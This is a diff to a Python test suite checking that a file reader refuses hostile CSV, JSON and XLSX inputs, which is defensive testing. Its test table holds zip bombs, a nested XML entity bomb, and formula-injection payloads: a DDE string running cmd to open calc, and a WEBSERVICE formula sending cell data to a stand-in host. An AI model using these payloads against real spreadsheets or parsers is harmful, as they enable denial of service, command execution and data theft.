@@ -2,20 +2,22 @@
 
 from __future__ import annotations
 
+import contextlib
 import io
-import resource
+import threading
 import time
 import zipfile
 from collections.abc import Callable, Iterable, Iterator
 from datetime import date
+from pathlib import Path
 from typing import Final
 
 import pytest
-from tests.harness import spreadsheets as made
 
 from chengxin.foundation.collection.readers import Chunk, Limits, read
 from chengxin.kernel.refused import Refused
 from chengxin.policy.policy_set import PolicySet
+from tests.harness import spreadsheets as made
 
 MEGABYTE: Final = 1 << 20
 HEADER: Final = "名称,代码,日期\n".encode()
@@ -35,12 +37,38 @@ def chunks(content: bytes | Iterable[bytes], name: str, limits: Limits) -> list[
     return list(read(pieces, file_name=name, limits=limits, find_header=first))
 
 
+class PeakOfChildren(threading.Thread):
+    """Watches how much memory the readers take: their own high-water mark, which begins at exec."""
+
+    def __init__(self) -> None:
+        super().__init__(daemon=True)
+        self.done = threading.Event()
+        self.bytes = 0
+
+    def run(self) -> None:
+        while not self.done.wait(0.004):
+            for task in Path("/proc/self/task").iterdir():
+                with contextlib.suppress(OSError):
+                    for child in (task / "children").read_text().split():
+                        self.look(Path("/proc", child))
+
+    def look(self, process: Path) -> None:
+        with contextlib.suppress(OSError):
+            if b"readers.child" in (process / "cmdline").read_bytes():
+                marks = [line for line in (process / "status").read_text().splitlines() if line.startswith("VmHWM")]
+                self.bytes = max([self.bytes, *(int(mark.split()[1]) * 1024 for mark in marks)])
+
+
 def refused(content: bytes | Iterable[bytes], name: str, limits: Limits) -> Refused:
+    peak = PeakOfChildren()
+    peak.start()
     started = time.monotonic()
     with pytest.raises(Refused) as caught:
         chunks(content, name, limits)
     assert time.monotonic() - started < 2, "refused, but too late"
-    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 300 * 1024, "refused, but the reader took too much memory"
+    peak.done.set()
+    peak.join()
+    assert 0 < peak.bytes < 300 * MEGABYTE, "refused, but the reader took too much memory"
     said = caught.value
     assert any("\u4e00" <= char <= "\u9fff" for char in said.sentence)
     assert said.sentence.endswith("。")
@@ -62,14 +90,14 @@ def shared_text_bomb() -> bytes:
     return made.package(b"<worksheet/>", shared=b"<sst><si><t>" + b"A" * (60 * MEGABYTE) + b"</t></si></sst>")
 
 
-def one_cell_bomb() -> bytes:
+def one_cell_bomb(characters: int) -> bytes:
     # Random-looking text, so that the ratio of the package gives nothing away.
-    text = "".join(chr(0x4E00 + (n * 7919 + n // 13) % 20_000) for n in range(1_500_000))
+    text = "".join(chr(0x4E00 + (n * 7919 + n // 13) % 20_000) for n in range(characters))
     return made.package(b"".join(made.sheet_xml([b'<row r="1">', made.inline("A1", text), b"</row>"])))
 
 
 def wide_row_bomb() -> bytes:
-    cells = (f'<c><v>{n * 7919 % 100_003}</v></c>'.encode() for n in range(2_000_000))
+    cells = (f"<c><v>{n * 7919 % 100_003}</v></c>".encode() for n in range(2_000_000))
     return made.package(made.sheet_xml([b"<row>", b"".join(cells), b"</row>"]))
 
 
@@ -82,13 +110,16 @@ def million_blank_rows() -> bytes:
 def entity_workbook() -> bytes:
     entities = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for name, before in zip("bcdefghij", "abcdefghi", strict=True))
     doctype = f'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{entities}]>'
-    return made.package(f'<?xml version="1.0"?>{doctype}<worksheet><sheetData><row><c><v>&j;</v></c></row></sheetData></worksheet>'.encode())
+    return made.package(
+        f'<?xml version="1.0"?>{doctype}<worksheet><sheetData><row><c><v>&j;</v></c></row></sheetData></worksheet>'.encode()
+    )
 
 
 def late_doctype() -> bytes:
     """The declaration behind a long comment, where a glance at the beginning does not see it."""
     comment = f"<!--{'x' * 300_000}-->"
-    xml = f'<?xml version="1.0"?>{comment}<!DOCTYPE x [<!ENTITY a "b">]><worksheet><sheetData><row><c><v>&a;</v></c></row></sheetData></worksheet>'
+    body = "<worksheet><sheetData><row><c><v>&a;</v></c></row></sheetData></worksheet>"
+    xml = f'<?xml version="1.0"?>{comment}<!DOCTYPE x [<!ENTITY a "b">]>{body}'
     return made.package(xml.encode())
 
 
@@ -134,8 +165,9 @@ HOSTILE: Final[dict[str, tuple[Callable[[], bytes | Iterable[bytes]], str, str]]
     "zip bomb": (zip_bomb, "a.xlsx", "file-unpacks-too-large"),
     "shared text bomb": (shared_text_bomb, "a.xlsx", "file-unpacks-too-large"),
     "overlapping parts": (made.overlapping_package, "a.xlsx", "file-unpacks-too-large"),
-    "one-cell bomb": (one_cell_bomb, "a.xlsx", "file-cell-too-long"),
-    "wide row": (wide_row_bomb, "a.xlsx", "file-row-too-large"),
+    "one-cell bomb": (lambda: one_cell_bomb(500_000), "a.xlsx", "file-cell-too-long"),
+    "larger one-cell bomb": (lambda: one_cell_bomb(5_000_000), "a.xlsx", "file-element-too-large"),
+    "wide row": (wide_row_bomb, "a.xlsx", "file-element-too-large"),
     "a million blank rows": (million_blank_rows, "a.xlsx", "file-blank-rows"),
     "entity bomb": (entity_workbook, "a.xlsx", "file-xml-entities"),
     "late doctype": (late_doctype, "a.xlsx", "file-xml-entities"),
@@ -170,7 +202,6 @@ HOSTILE: Final[dict[str, tuple[Callable[[], bytes | Iterable[bytes]], str, str]]
     "NUL bytes": (lambda: HEADER + "甲,1\0,2\n".encode(), "a.csv", "file-nul"),
     "UTF-16": (lambda: "名称\t代码\n甲\t1\n".encode("utf-16"), "a.csv", "file-utf16"),
     "broken encoding": (lambda: HEADER + b"\xff\xfe\x81\x20,1,2\n", "a.csv", "file-encoding"),
-    "mixed encodings": (lambda: repeated("甲,1,2\n".encode() * 50_000, 12, before=HEADER) , "a.csv", ""),
     "endless quote": (lambda: repeated(b"x" * MEGABYTE + b"\n", 40, before=HEADER + b'"'), "a.csv", "file-quotes"),
     "endless line": (lambda: repeated(b"x" * MEGABYTE, 40, before=HEADER), "a.csv", "file-row-too-large"),
     "one-cell text": (lambda: HEADER + b"x" * 40_000 + b",1,2\n", "a.csv", "file-cell-too-long"),
@@ -180,7 +211,9 @@ HOSTILE: Final[dict[str, tuple[Callable[[], bytes | Iterable[bytes]], str, str]]
     "DDE behind a sign": (lambda: HEADER + b"+cmd|' /C calc'!A0,1,2\n", "a.csv", "file-dangerous-formula"),
     "fetching formula": (lambda: HEADER + b'"=WEBSERVICE(""http://example.invalid/""&A1)",1,2\n', "a.csv", "file-dangerous-formula"),
     "fetching formula in a workbook": (
-        lambda: made.package(b"".join(made.sheet_xml([b'<row r="1">', made.inline("A1", '@HYPERLINK("http://example.invalid/")'), b"</row>"]))),
+        lambda: made.package(
+            b"".join(made.sheet_xml([b'<row r="1">', made.inline("A1", '@HYPERLINK("http://example.invalid/")'), b"</row>"]))
+        ),
         "a.xlsx",
         "file-dangerous-formula",
     ),
@@ -189,9 +222,8 @@ HOSTILE: Final[dict[str, tuple[Callable[[], bytes | Iterable[bytes]], str, str]]
     "JSON with NUL": (lambda: b'[{"a":"\\u0000"}]', "a.json", "file-json"),
     "same key twice": (lambda: b'[{"a":"1","a":"2"}]', "a.json", "file-json"),
     "JSON that stops": (lambda: b'[{"a":"1"}', "a.json", "file-json"),
-    "deep XML": (lambda: made.package(b"<a>" * 5_000), "a.xlsx", "file-row-too-large"),
+    "deep XML": (lambda: made.package(b"<a>" * 5_000), "a.xlsx", "file-element-too-large"),
 }
-HOSTILE.pop("mixed encodings")
 
 
 @pytest.mark.parametrize("kind", HOSTILE)
